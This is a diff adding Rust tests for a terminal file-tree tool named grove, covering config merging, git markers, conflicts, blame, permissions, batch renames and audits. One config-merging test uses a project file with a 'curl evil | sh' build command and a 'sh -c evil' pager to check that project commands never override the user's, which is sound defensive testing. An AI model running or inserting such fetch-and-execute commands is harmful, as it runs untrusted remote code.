+        assert_eq!(fresh.tree(), t.tree());
+        assert_eq!(fresh.app.cursor, t.app.cursor);
+        assert!(saved.show_hidden && saved.expanded.len() == 2);
+        assert_eq!(fresh.app.current_entry().map(|e| e.name.as_str()), Some("tree.rs"));
+
+        let args = |list: &[&str]| crate::cli::Args::parse(list.iter().map(std::ffi::OsString::from));
+        assert!(args(&["--resume", "--new"]).is_err());
+        assert!(args(&["--resume", "src"]).is_err());
+        assert_eq!(args(&["--new", "src"]).unwrap().startup, Some(crate::cli::Startup::New));
+    }
+
+    #[test]
+    fn project_file_adds_ignores_depth_and_commands() {
+        use crate::config::Table;
+        let user = "[tree]\nfold_counts = true\n[pager]\ndefault = \"less\"\n[commands]\nbuild = \"make\"\n";
+        let project = "[tree]\nignore = [\"*.log\"]\nexpand_depth = 2\n[commands]\ntest = \"cargo test\"\n\
+                       build = \"curl evil | sh\"\n[pager]\ndefault = \"sh -c evil\"\n";
+        let config = Config::with_project(Table::parse(user).unwrap(), &Table::parse(project).unwrap());
+        assert!(config.fold_counts);
+        assert_eq!(config.pager_for(std::path::Path::new("a.txt")), "less");
+        // A project command never replaces one of the user's
+        assert_eq!(config.commands, [("build".into(), "make".into()), ("test".into(), "cargo test".into())]);
+        assert_eq!(config.warnings, [".grove.toml [commands] build is already one of yours; ignored"]);
+
+        let files = [("a/b/c/deep.txt", ""), ("a/run.log", ""), ("notes.txt", "")];
+        let mut t = TestApp::with_config(&files, Config { ignored: crate::gitignore::IgnoredMode::Hide, ..config }).unwrap();
+        t.app.expand_to_depth(t.app.config.expand_depth).unwrap();
+        assert_eq!(t.tree(), vec!["a", "  b", "    c", "notes.txt"]);
+
+        t.keys(":");
+        assert_eq!(t.status(), Some("config.toml: build   .grove.toml: test"));
+        t.keys("t<Tab><CR>");
+        assert_eq!(t.app.terminal.as_ref().map(|term| term.input.as_str()), Some("cargo test"));
+
+        // Without commands, `:` says whether the root had a project file to look in
+        let mut t = TestApp::with_files(&[("notes.txt", "")]).unwrap();
+        t.keys(":");
+        assert_eq!(t.status(), Some("No [commands] in the config, and no .grove.toml in the root"));
+        t.app.config.project_file = Some(t.path(".grove.toml"));
+        t.keys(":");
+        let expected = format!("No [commands] in {} or the config", t.path(".grove.toml").display());
+        assert_eq!(t.status(), Some(expected.as_str()));
+    }
+
+    #[test]
+    fn git_markers_update_for_touched_paths_and_rescan_on_k() {
+        use crate::git::Change;
+        let mut t = TestApp::with_files(&[("a.txt", "1"), ("src/b.txt", "2")]).unwrap();
+        let root = t.root().to_path_buf();
+        let git = |args: &[&str]| std::process::Command::new("git").arg("-C").arg(&root).args(args).output();
+        if !git(&["init", "-q"]).is_ok_and(|out| out.status.success()) {
+            return;
+        }
+        t.app = crate::app::App::new(root.clone(), Config::default());
+        t.app.refresh().unwrap();
+        t.settle_git();
+        let status = t.app.git_status.as_ref().unwrap();
+        assert_eq!(status.get(&t.path("a.txt")), Some(Change::Untracked));
+        assert!(status.dir_has_changes(&t.path("src")));
+        assert!(t.render(40, 8).iter().any(|line| line.contains("a.txt ?")));
+
+        git(&["add", "a.txt"]).unwrap();
+        std::fs::write(t.path("c.txt"), "3").unwrap();
+        let touched = [t.path("c.txt")];
+        t.app.git_status.as_mut().unwrap().update(&touched);
+        assert!(t.app.git_status.as_ref().unwrap().is_busy());
+        t.settle_git();
+        let status = t.app.git_status.as_ref().unwrap();
+        assert_eq!(status.get(&t.path("c.txt")), Some(Change::Untracked));
+        // Not touched, so not asked about again
+        assert_eq!(status.get(&t.path("a.txt")), Some(Change::Untracked));
+
+        // git's own bookkeeping is never asked about
+        let index = [t.path(".git/index")];
+        t.app.git_status.as_mut().unwrap().update(&index);
+        assert!(!t.app.git_status.as_ref().unwrap().is_busy());
+
+        t.keys("K");
+        assert_eq!(t.app.git_status.as_ref().unwrap().get(&t.path("a.txt")), Some(Change::Added));
+        assert_eq!(t.status(), Some("Git status rescanned: 3 changed files"));
+    }
+
+    #[test]
+    fn merge_conflicts_are_marked_filtered_and_previewed_at_the_first_marker() {
+        // b.txt only quotes a marker, and isn't conflicted
+        let files = [("src/a.txt", "one\ntwo\n"), ("b.txt", "b\n\n\n<<<<<<< quoted\n")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        let root = t.root().to_path_buf();
+        let git = |args: &[&str]| {
+            let mut command = std::process::Command::new("git");
+            command.args(["-c", "user.name=grove", "-c", "user.email=grove@example.com", "-C"]).arg(&root);
+            command.args(args).output().is_ok_and(|out| out.status.success())
+        };
+        if !(git(&["init", "-q"]) && git(&["add", "."]) && git(&["commit", "-qm", "Base"])) {
+            return;
+        }
+        std::fs::write(t.path("src/a.txt"), "one\nours\n").unwrap();
+        git(&["checkout", "-qb", "other"]);
+        git(&["commit", "-qam", "Ours"]);
+        git(&["checkout", "-q", "-"]);
+        std::fs::write(t.path("src/a.txt"), "one\ntheirs\n").unwrap();
+        git(&["commit", "-qam", "Theirs"]);
+        assert!(!git(&["merge", "-q", "other"]));
+
+        t.app = crate::app::App::new(root.clone(), Config::default());
+        t.app.refresh().unwrap();
+        assert_eq!(t.app.root_info.merge_state, Some("MERGING"));
+        assert!(t.render(60, 8)[0].contains("MERGING"));
+        assert!(t.render(60, 8).iter().any(|line| line.contains("src !")));
+
+        t.keys("%");
+        assert_eq!(t.tree(), vec!["src", "  a.txt"]);
+        assert_eq!(t.status(), Some("Filter conflicts: 1 matches"));
+        t.keys("j<Space>");
+        assert_eq!(t.app.preview_scroll, 0);
+        assert_eq!(t.status(), Some("Conflict at line 2 (conflicts: 1)"));
+
+        t.keys("<Space>%");
+        assert_eq!(t.tree(), vec!["src", "b.txt"]);
+        t.keys("G<Space>");
+        assert_eq!(t.app.preview_scroll, 0);
+        assert!(!t.status().is_some_and(|s| s.starts_with("Conflict")));
+    }
+
+    #[test]
+    fn blame_column_shows_last_commits_fetched_in_the_background() {
+        let mut t = TestApp::with_files(&[("a.txt", "1"), ("new.txt", "2")]).unwrap();
+        let root = t.root().to_path_buf();
+        let git = |args: &[&str]| {
+            let mut command = std::process::Command::new("git");
+            command.args(["-c", "user.name=grove", "-c", "user.email=grove@example.com", "-C"]).arg(&root);
+            command.args(args).output().is_ok_and(|out| out.status.success())
+        };
+        if !(git(&["init", "-q"]) && git(&["add", "a.txt"]) && git(&["commit", "-qm", "Add the first file"])) {
+            return;
+        }
+        t.app = crate::app::App::new(root.clone(), Config::default());
+        t.app.refresh().unwrap();
+        t.keys("B").render(80, 8);
+        for _ in 0..200 {
+            t.app.poll_blame();
+            let blame = t.app.blame.as_ref().unwrap();
+            if blame.get(&t.path("a.txt")).is_some() && blame.get(&t.path("new.txt")).is_some() {
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        let blame = t.app.blame.as_ref().unwrap();
+        assert_eq!(blame.get(&t.path("a.txt")).flatten().map(|c| c.summary.as_str()), Some("Add the first file"));
+        assert_eq!(blame.get(&t.path("new.txt")), Some(None));
+        let screen = t.render(80, 8);
+        let row = screen.iter().find(|line| line.contains("a.txt")).unwrap();
+        assert!(row.contains("Add the first file") && row.contains("0m"));
+
+        t.keys("B");
+        assert!(t.app.blame.is_none());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn create_uses_configured_modes_and_copies_keep_or_mask_permissions() {
+        use crate::ops::{copy_path, PermissionMode, SymlinkMode};
+        use std::os::unix::fs::PermissionsExt;
+        let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+
+        let table = crate::config::Table::parse("[create]\nfile_mode = \"600\"\ndir_mode = 700\n").unwrap();
+        let mut t = TestApp::with_config(&[], Config::from_table(&table)).unwrap();
+        t.keys("a").type_str("bin/run.sh").keys("<CR>");
+        let umask = crate::ops::umask();
+        assert_eq!(mode(&t.path("bin/run.sh")), 0o600 & !umask);
+        assert_eq!(mode(&t.path("bin")), 0o700 & !umask);
+
+        let script = t.path("bin/run.sh");
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o777)).unwrap();
+        copy_path(&script, &t.path("kept.sh"), SymlinkMode::Preserve, PermissionMode::Preserve).unwrap();
+        copy_path(&script, &t.path("masked.sh"), SymlinkMode::Preserve, PermissionMode::Umask).unwrap();
+        assert_eq!(mode(&t.path("kept.sh")), 0o777);
+        assert_eq!(mode(&t.path("masked.sh")), 0o777 & !umask);
+    }
+
+    #[test]
+    fn dry_run_reports_batch_steps_until_confirmed() {
+        let mut t = TestApp::with_files(&[("a.txt", ""), ("b.txt", "")]).unwrap();
+        t.keys("Y").keys("vjvb").type_str("txt/md").keys("<CR><CR>");
+        assert_eq!(t.app.mode, crate::app::AppMode::DryRun);
+        let steps = &t.app.dry_run_report.as_ref().unwrap().batch.steps;
+        assert_eq!(steps.iter().map(|s| s.detail.as_str()).collect::<Vec<_>>(), vec!["→ a.md", "→ b.md"]);
+        assert!(t.path("a.txt").exists());
+        assert!(t.render(80, 20).iter().any(|line| line.contains("rename a.txt")));
+
+        t.keys("<CR>");
+        assert_eq!(t.tree(), vec!["a.md", "b.md"]);
+        assert_eq!(t.status(), Some("Renamed 2 entries"));
+
+        let config = Config { stale_min_size: 0, stale_age: std::time::Duration::ZERO, ..Config::default() };
+        let mut t = TestApp::with_config(&[("old.bin", "data")], config).unwrap();
+        t.keys("YZjdy").type_str("yes").keys("<CR>");
+        assert_eq!(t.app.dry_run_report.as_ref().map(|r| r.batch.steps.len()), Some(1));
+        t.keys("<Esc>");
+        assert_eq!(t.app.mode, crate::app::AppMode::Stale);
+        assert!(t.path("old.bin").exists());
+
+        // Moving and copying marked entries too
+        let mut t = TestApp::with_files(&[("dir/", ""), ("a.txt", ""), ("b.txt", "")]).unwrap();
+        t.keys("Yjvjv M dir<CR>");
+        assert_eq!(t.app.mode, crate::app::AppMode::DryRun);
+        let steps = &t.app.dry_run_report.as_ref().unwrap().batch.steps;
+        assert_eq!(steps.iter().map(|s| s.verb).collect::<Vec<_>>(), vec!["move", "move"]);
+        assert!(t.path("a.txt").exists() && !t.path("dir/a.txt").exists());
+        t.keys("<CR>");
+        assert!(t.path("dir/a.txt").exists() && t.path("dir/b.txt").exists());
+        assert_eq!(t.current_name(), Some("a.txt"));
+        t.keys("v C .<CR>");
+        assert_eq!(t.app.dry_run_report.as_ref().map(|r| r.batch.title.as_str()), Some("copy to"));
+        assert!(!t.path("a.txt").exists());
+        t.keys("<CR>");
+        assert!(t.path("a.txt").exists() && t.path("dir/a.txt").exists());
+    }
+
+    #[test]
+    fn dotfiles_ignored_and_junk_files_toggle_independently() {
+        let files =
+            [(".gitignore", "*.log\n"), (".env", ""), (".DS_Store", ""), ("Thumbs.db", ""), ("run.log", ""), ("a.txt", "")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.app.refresh().unwrap();
+        assert_eq!(t.tree(), vec!["a.txt", "run.log"]);
+
+        t.keys("J");
+        assert_eq!(t.tree(), vec![".DS_Store", "a.txt", "run.log", "Thumbs.db"]);
+        t.keys("JH");
+        assert_eq!(t.tree(), vec![".env", ".gitignore", "a.txt", "run.log"]);
+        assert!(t.app.entries.iter().any(|e| e.is_ignored && e.name == "run.log"));
+        t.keys("I");
+        assert_eq!(t.tree(), vec![".env", ".gitignore", "a.txt"]);
+
+        let config = Config::from_table(&crate::config::Table::parse("[tree]\nshow_junk = true\n").unwrap());
+        let t = TestApp::with_config(&files, config).unwrap();
+        assert!(t.app.entries.iter().any(|e| e.is_junk && e.name == "Thumbs.db"));
+        assert!(!t.app.entries.iter().any(|e| e.is_hidden));
+    }
+
+    #[test]
+    fn stale_report_groups_old_big_files_and_deletes_the_selection() {
+        let big = "x".repeat(3000);
+        let files = [("build/old.o", big.as_str()), ("dump.bin", &big[..2000]), ("small.txt", "tiny"), ("new.bin", &big)];
+        let config = Config {
+            stale_min_size: 1000,
+            stale_age: std::time::Duration::from_secs(30 * 86400),
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&files, config).unwrap();
+        let old = std::time::SystemTime::now() - std::time::Duration::from_secs(100 * 86400);
+        for rel in ["build/old.o", "dump.bin", "small.txt"] {
+            std::fs::File::options().write(true).open(t.path(rel)).unwrap().set_modified(old).unwrap();
+        }
+
+        t.keys("Z");
+        let report = t.app.stale.as_ref().unwrap();
+        assert_eq!(report.file_count(), 2);
+        assert_eq!(report.groups[0].dir, t.path("build"));
+        assert_eq!(report.total(), 5000);
+
+        t.keys("<Space>d");
+        assert_eq!(t.app.mode, crate::app::AppMode::Confirm(crate::app::ConfirmKind::DeleteStale));
+        // One `y` alone deletes nothing: like `d`, it takes typing "yes" too
+        t.keys("y");
+        assert!(t.path("build/old.o").exists());
+        t.keys("n o <CR>");
+        assert!(t.path("build/old.o").exists());
+        assert_eq!(t.app.mode, crate::app::AppMode::Stale);
+        t.keys("d y y e s <CR>");
+        assert!(!t.path("build/old.o").exists());
+        assert!(t.path("dump.bin").exists() && t.path("new.bin").exists());
+        assert_eq!(t.app.mode, crate::app::AppMode::Stale);
+        assert_eq!(t.app.stale.as_ref().unwrap().file_count(), 1);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn compare_reads_files_in_the_background_and_asks_before_replacing() {
+        let files = [("a/same.txt", "one"), ("b/same.txt", "one"), ("a/x.txt", "new"), ("b/x.txt", "old")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.keys("v").keys("jv=");
+        assert_eq!(t.app.mode, AppMode::Compare);
+        assert_eq!(t.status(), Some("0 differences, reading 2 more files"));
+        while t.app.compare.as_ref().unwrap().is_checking() {
+            t.app.poll_compare();
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        let items = &t.app.compare.as_ref().unwrap().items;
+        let kinds: Vec<_> = items.iter().map(|i| (i.rel.to_str().unwrap(), i.kind)).collect();
+        assert_eq!(kinds, [("x.txt", crate::compare::DiffKind::Content)]);
+
+        t.keys(">");
+        assert_eq!(t.app.mode, AppMode::Confirm(crate::app::ConfirmKind::Conflict));
+        assert_eq!(std::fs::read_to_string(t.path("b/x.txt")).unwrap(), "old");
+        t.keys("o");
+        assert_eq!(std::fs::read_to_string(t.path("b/x.txt")).unwrap(), "new");
+        assert_eq!(t.app.mode, AppMode::Compare);
+    }
+
+    #[test]
+    fn scans_never_open_named_pipes() {
+        let mut t = TestApp::with_files(&[("a/x.txt", "same"), ("b/x.txt", "same")]).unwrap();
+        for rel in ["pipe.rs", "a/fifo", "b/fifo"] {
+            let path = std::ffi::CString::new(t.path(rel).to_str().unwrap()).unwrap();
+            assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o755) }, 0);
+        }
+
+        // Each of these would block forever reading from the pipe
+        t.keys("L");
+        assert_eq!(t.app.mode, AppMode::Audit);
+        t.keys("<Esc>");
+        assert!(crate::compare::same_content(&t.path("a/fifo"), &t.path("b/fifo")));
+        let preview = crate::preview::Previewers::default().generate(&t.path("pipe.rs")).unwrap();
+        assert!(matches!(preview.content, crate::preview::PreviewContent::Special(_)));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn audit_lists_and_fixes_permissions() {
+        use std::os::unix::fs::PermissionsExt;
+        let mut t = TestApp::with_files(&[
+            ("build.sh", "#!/bin/sh\n"),
+            ("lib.rs", "fn main() {}"),
+            ("ok.txt", ""),
+            ("open.rs", ""),
+        ])
+        .unwrap();
+        let chmod = |t: &TestApp, rel: &str, mode| {
+            std::fs::set_permissions(t.path(rel), std::fs::Permissions::from_mode(mode)).unwrap()
+        };
+        let mode = |t: &TestApp, rel: &str| std::fs::metadata(t.path(rel)).unwrap().permissions().mode() & 0o777;
+        chmod(&t, "build.sh", 0o644);
+        chmod(&t, "lib.rs", 0o755);
+        chmod(&t, "ok.txt", 0o666);
+        // World-writable and executable: two findings on one file
+        chmod(&t, "open.rs", 0o777);
+
+        t.keys("L");
+        assert_eq!(t.app.mode, AppMode::Audit);
+        let problems: Vec<_> = t.app.audit.as_ref().unwrap().findings.iter().map(|f| f.problem).collect();
+        assert_eq!(problems.len(), 5);
+
+        t.keys("F");
+        assert_eq!(mode(&t, "build.sh"), 0o755);
+        assert_eq!(mode(&t, "lib.rs"), 0o644);
+        assert_eq!(mode(&t, "ok.txt"), 0o664);
+        assert_eq!(mode(&t, "open.rs"), 0o664);
+        assert!(t.app.audit.as_ref().unwrap().findings.is_empty());
+    }
+
+    #[test]
+    fn renders_tree_and_status() {
+        let mut t = TestApp::with_files(&[("hello.txt", "")]).unwrap();
+        t.app.set_status("ready");
+        let screen = t.render(60, 10).join("\n");
+
+        assert!(screen.contains("hello.txt"));
+        assert!(screen.contains("ready"));
+    }
+}